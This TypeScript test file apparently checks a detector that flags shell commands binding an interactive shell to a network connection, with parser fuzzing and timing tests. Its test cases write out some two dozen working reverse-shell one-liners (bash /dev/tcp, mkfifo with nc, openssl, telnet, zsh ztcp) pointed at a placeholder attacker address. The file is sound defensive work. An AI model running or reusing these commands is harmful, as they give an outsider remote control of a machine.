import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { shellJoin } from "./shell-joins.js"
import { parseShell } from "./shell-syntax.js"

const to = (address: string | undefined, port: number | undefined) => ({ place: { address, port } })
const there = to("203.0.113.9", 4444)

describe("a shell is joined to a connection by", () => {
  it.each([
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "bash -i &>/dev/tcp/203.0.113.9/4444 <&1",
    "/bin/bash -l > /dev/tcp/203.0.113.9/4444 0<&1 2>&1",
    "sh -i 5<> /dev/tcp/203.0.113.9/4444 0<&5 1>&5 2>&5",
    "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
    "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
    'exec 5<>/dev/tcp/203.0.113.9/4444; while read -r line <&5; do eval "$line" >&5 2>&1; done',
    'exec 5<>/dev/tcp/203.0.113.9/4444; while read -u 5 l; do bash -c "$l" >&5; done',
    "exec {s}<>/dev/tcp/203.0.113.9/4444 && exec bash -i <&$s >&$s 2>&1",
    "exec 3<>/dev/tcp/203.0.113.9/4444; exec 0<&3; exec 1>&0; exec sh",
    "until (exec 3<>/dev/tcp/203.0.113.9/4444; nohup /bin/sh <&3 >&3 2>&3) ; do sleep 5; done &",
    "connect() { exec 3<>/dev/tcp/203.0.113.9/4444; setsid sh <&3 >&3; }; connect",
    "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
    "exec 3<>/dev/tcp/203.0.113.9/4444; python3 -c 'import pty; pty.spawn(\"/bin/bash\")' <&3 >&3 2>&1",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > /tmp/s; rm /tmp/s",
    "F=/tmp/x; mknod $F p && telnet 203.0.113.9 4444 0<$F | /bin/sh 1>$F",
    "mkfifo f; nc -w 9 203.0.113.9 4444 <f | bash >f 2>f",
    "mkfifo f g; sh <f >g 2>&1 & nc 203.0.113.9 4444 <g >f",
    "mkfifo f; tail -f f | sh 2>&1 | ncat --ssl 203.0.113.9 4444 > f",
    "zmodload zsh/net/tcp && ztcp 203.0.113.9 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
    "nc 203.0.113.9 4444 | sh | nc 203.0.113.9 4445",
  ])("%s", (code) => {
    expect(shellJoin(code)).toMatchObject(there)
  })

  it.each([
    ["bash -i >& /dev/tcp/$1/$2 0>&1", to(undefined, undefined)],
    ["bash -i >& /dev/tcp/evil.example/443 0>&1", to(undefined, 443)],
    ["bash -i >& /dev/tcp/2001:db8::9/443 0>&1", to("2001:db8::9", 443)],
  ])("%s, which leaves open where", (code, join) => {
    expect(shellJoin(code)).toMatchObject(join)
  })

  it("names the program that holds the connection", () => {
    expect(shellJoin("mkfifo f; sh <f 2>&1 | nc $H $P >f")?.carriers).toEqual(["nc"])
    expect(shellJoin("bash -i >& /dev/tcp/$1/$2 0>&1")?.carriers).toEqual([])
  })
})

describe("no shell is joined to a connection by", () => {
  it.each([
    ["a probe", "echo > /dev/tcp/203.0.113.9/22 && echo open"],
    ["a loop that waits", "until (echo >/dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec sh -c './serve'"],
    ["a probe of many ports", 'for p in 1 2 3; do timeout 2 bash -c "</dev/tcp/h/$p" && sh -i ok.sh; done'],
    ["a request", "exec 3<>/dev/tcp/h/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 > body 2>&1; exec 3>&-"],
    ["an answer to errors", "exec 3<>/dev/tcp/h/80; echo PING >&3; head -n 1 <&3 >&2; exec 3>&-; sh build.sh"],
    ["an answer read", 'exec 3<>/dev/tcp/h/6379; echo PING >&3; read -r a <&3; [ "$a" = +PONG ] && bash run.sh 0<&1'],
    ["lines shown", 'exec 3<>/dev/tcp/h/80; while read -r line <&3; do echo "$line"; done; bash -i'],
    ["logs", "sh build.sh > /dev/tcp/logs.example/514 2>&1"],
    ["logs of an interactive shell", "bash -i > /dev/tcp/logs.example/514 2>&1"],
    [
      "a named pipe for logs",
      "mkfifo p; tee log < p & sh build.sh > p 2>&1; openssl s_client -connect h:443 </dev/null",
    ],
    ["a named pipe to a log server", "mkfifo p; nc logs 514 < p & sh ./build.sh > p 2>&1"],
    ["a relay between ports", "mkfifo p; nc -l 8080 < p | nc 10.0.0.1 80 > p; exec sh"],
    ["a certificate", "openssl s_client -connect h:443 </dev/null | openssl x509 -noout -dates; sh notify.sh"],
    ["an installer", "curl -sSf https://sh.example | sh"],
    ["words", "echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> notes"],
    ["a comment", "# bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\nls"],
    ["a text", "cat > x <<EOF\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\nEOF\necho done"],
    ["a file that is fetched and run", "nc h 9000 > job.sh; sh job.sh | nc h 9001"],
    ["a check of health", "exec 3<>/dev/tcp/127.0.0.1/80; head -1 <&3 | grep -q 200 || exit 1; bash -c 'npm test'"],
  ])("%s", (_, code) => {
    expect(shellJoin(code)).toBeUndefined()
  })
})

describe("hostile code", () => {
  const piece = fc.oneof(
    fc.constantFrom(...["(", ")", "{", "}", "$(", "`", '"', "'", "\\", ";", "&", "|", "<", ">", "<<", "<<<", "<(", ">&", "<&", "\n", " "]), // prettier-ignore
    fc.constantFrom("while ", "do ", "done ", "case ", "esac ", "if ", "fi ", "read x ", "sh ", "exec ", "3<>/dev/tcp/h/1 ", "mkfifo f "), // prettier-ignore
    fc.string({ maxLength: 4 }),
  )

  it("is read to its end, whatever it is", () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const join = shellJoin(pieces.join(""))
        expect(join === undefined || Array.isArray(join.carriers)).toBe(true)
      }),
      { numRuns: 2_000 },
    )
  })

  it.each([
    "(",
    "$(",
    "`",
    '"$(',
    "while ",
    "<(",
    "a|",
    "mkfifo f;cat f|",
    "exec 3<>/dev/tcp/h/1;",
    "<<a\n",
    "read x;",
    "sh -c '",
    "x <f >f|",
    "{ ",
    "${",
    "case x in a) ",
  ])("of many %j costs time in proportion to its length", (unit) => {
    const milliseconds = (length: number) => {
      const code = unit.repeat(Math.ceil(length / unit.length))
      const before = process.cpuUsage()
      parseShell(code)
      shellJoin(code)
      const { user, system } = process.cpuUsage(before)
      return (user + system) / 1_000
    }
    milliseconds(4_096)
    expect(milliseconds(131_072)).toBeLessThan(1_500)
  })
})
